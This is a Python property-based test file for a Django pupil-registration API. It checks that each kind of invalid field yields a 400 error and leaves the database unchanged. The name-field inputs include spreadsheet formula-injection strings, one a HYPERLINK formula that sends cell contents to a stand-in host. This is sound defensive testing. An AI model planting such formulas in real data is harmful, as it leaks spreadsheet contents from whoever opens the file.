"""Control 17 (input validity, server side): whatever one item of a pupil's data is broken into, the API answers
400 naming that item, and nothing in the database changes (property-based: Hypothesis draws the breakage)."""

import datetime as dt

from django.urls import reverse
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from xueji.core import clock, idnumbers
from xueji.registration.tests.test_flow import pupil_row
from xueji.registration.tests.test_identity import api_body
from xueji.testing.fingerprint import fingerprint


def _wrong_check_digit(n: int) -> str:
    good = idnumbers.make("341002", dt.date(2016, 5, 1 + n % 28), 101 + 2 * n)
    return good[:17] + next(c for c in "0123456789X" if c != good[17])


def _future_birth(days: int) -> str:
    return (clock.today() + dt.timedelta(days=days)).isoformat()


BREAKAGES = st.one_of(
    st.tuples(st.just("id_number"), st.integers(0, 400).map(_wrong_check_digit)),
    st.tuples(st.just("id_number"), st.text("0123456789", min_size=1, max_size=17)),
    st.tuples(st.just("id_number"), st.from_regex(r"\A34100220161[3-9]3[2-9]101[0-9X]\Z")),  # no such date
    st.tuples(st.just("birth_date"), st.integers(1, 3650).map(_future_birth)),
    st.tuples(st.just("birth_date"), st.sampled_from(["2016-02-30", "20160501x", "明天", "0000-00-00"])),
    st.tuples(st.just("sex"), st.text("345678ABCXYZ", min_size=1, max_size=3)),
    st.tuples(st.just("ethnic"), st.sampled_from(["00", "57", "99", "汉", "1a"])),
    st.tuples(st.just("name"), st.sampled_from(["=HYPERLINK(\"http://x/?\"&A1,\"点击\")", "@SUM(1)", "+1", "张" * 65])),
    st.tuples(st.just("phone"), st.text("abcdefg#*", min_size=3, max_size=12)),
)


@settings(max_examples=25, deadline=None, derandomize=True,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(breakage=BREAKAGES)
def test_a_broken_item_answers_400_on_that_item_and_writes_nothing(world, login, breakage):
    key, value = breakage
    client = login(world.user("tunxi_primary", "registrar"))
    klass = world.classes["tunxi_primary"]
    before = fingerprint()
    body = api_body(klass, pupil_row(7, **{key: value}))
    response = client.post(reverse("api:student-enter"), body, content_type="application/json")
    assert response.status_code == 400, (key, value, response.content)
    assert key in response.json()["details"], (key, value, response.json())
    assert fingerprint() == before


def test_the_unbroken_body_is_accepted(world, login):
    """The property above means something only if the same body, unbroken, goes through."""
    client = login(world.user("tunxi_primary", "registrar"))
    response = client.post(reverse("api:student-enter"), api_body(world.classes["tunxi_primary"], pupil_row(7)),
                           content_type="application/json")
    assert response.status_code == 201, response.content
